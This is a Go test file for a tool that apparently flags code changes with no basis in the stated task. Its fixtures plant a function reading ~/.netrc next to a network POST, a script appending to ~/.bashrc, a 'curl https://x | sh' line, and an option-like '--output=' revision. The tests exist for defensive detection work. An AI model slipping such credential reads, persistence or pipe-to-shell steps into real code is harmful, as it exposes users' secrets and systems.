package intent

import (
	"context"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
)

func gitRun(t *testing.T, dir string, args ...string) {
	t.Helper()
	cmd := exec.Command("git", append([]string{"-C", dir, "-c", "user.name=t", "-c", "user.email=t@example.com", "-c", "commit.gpgsign=false"}, args...)...)
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("git %v: %v\n%s", args, err, out)
	}
}

func writeFile(t *testing.T, dir, rel, content string) {
	t.Helper()
	p := filepath.Join(dir, rel)
	if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(p, []byte(content), 0o644); err != nil {
		t.Fatal(err)
	}
}

// TestFromGit builds a repository whose existing code already uses the
// network, then changes one file: the new network call is expected (the
// project did it before), the new credential read is not.
func TestFromGit(t *testing.T) {
	if _, err := exec.LookPath("git"); err != nil {
		t.Skip("git not installed")
	}
	t.Setenv("HOME", t.TempDir())
	t.Setenv("GIT_CONFIG_GLOBAL", os.DevNull)
	t.Setenv("GIT_CONFIG_NOSYSTEM", "1")
	dir := t.TempDir()
	gitRun(t, dir, "init", "-q")
	writeFile(t, dir, "app/client.py", "import requests\n\ndef get(u):\n    return requests.get(u)\n")
	writeFile(t, dir, "app/report.py", "def total(xs):\n    return sum(xs)\n")
	gitRun(t, dir, "add", ".")
	gitRun(t, dir, "commit", "-qm", "init")
	writeFile(t, dir, "app/report.py", "import os\nimport requests\n\ndef total(xs):\n    requests.post('https://stats.example.com', json=xs)\n    open(os.path.expanduser('~/.netrc')).read()\n    return sum(xs)\n")
	writeFile(t, dir, "app/new.sh", "#!/bin/sh\necho hi >> ~/.bashrc\n")
	writeFile(t, dir, "notes.md", "curl https://x | sh\n")

	changes, project, skipped, err := FromGit(context.Background(), dir, "HEAD")
	if err != nil {
		t.Fatal(err)
	}
	if len(skipped) > 0 {
		t.Errorf("skipped %+v", skipped)
	}
	var paths []string
	for _, f := range changes {
		paths = append(paths, f.Path)
	}
	if got := strings.Join(paths, ","); !strings.Contains(got, "app/report.py") || !strings.Contains(got, filepath.Join("app", "new.sh")) || strings.Contains(got, "notes.md") {
		t.Errorf("changes = %s", got)
	}
	if len(project) != 1 || project[0].Path != filepath.Join("app", "client.py") {
		t.Errorf("project = %+v", project)
	}
	out, err := Check(context.Background(), Input{Task: "add a total to the report", Changes: changes, Project: project})
	if err != nil {
		t.Fatal(err)
	}
	got := strings.Join(rules(out.Result.Findings), ",")
	if got != "intent.unexpected.persistence,intent.unexpected.credentials" && got != "intent.unexpected.credentials,intent.unexpected.persistence" {
		t.Errorf("findings = %s", got)
	}

	if _, _, _, err := FromGit(context.Background(), dir, "--output=/tmp/x"); err == nil {
		t.Error("an option-looking revision must be refused")
	}
	if _, _, _, err := FromGit(context.Background(), dir, "no-such-rev"); err == nil {
		t.Error("want an error for an unknown revision")
	}
}

func TestFromPaths(t *testing.T) {
	dir := t.TempDir()
	writeFile(t, dir, "src/a.py", "import subprocess\nsubprocess.run(['ls'])\n")
	writeFile(t, dir, "src/b.go", "package b\n")
	writeFile(t, dir, "bin/tool", "#!/usr/bin/env python3\nimport os\nos.system('id')\n")
	writeFile(t, dir, "blob.bin", "\x00\x01\x02")
	changes, project, skipped, err := FromPaths(context.Background(), []string{filepath.Join(dir, "src", "a.py"), filepath.Join(dir, "bin")}, dir)
	if err != nil {
		t.Fatal(err)
	}
	if len(changes) != 2 || len(skipped) != 0 {
		t.Errorf("changes = %d, skipped = %+v", len(changes), skipped)
	}
	if len(project) != 1 || !strings.HasSuffix(project[0].Path, "b.go") {
		t.Errorf("project = %+v", project)
	}
	if _, _, _, err := FromPaths(context.Background(), []string{filepath.Join(dir, "missing.py")}, ""); err == nil {
		t.Error("want an error for a missing file")
	}
}
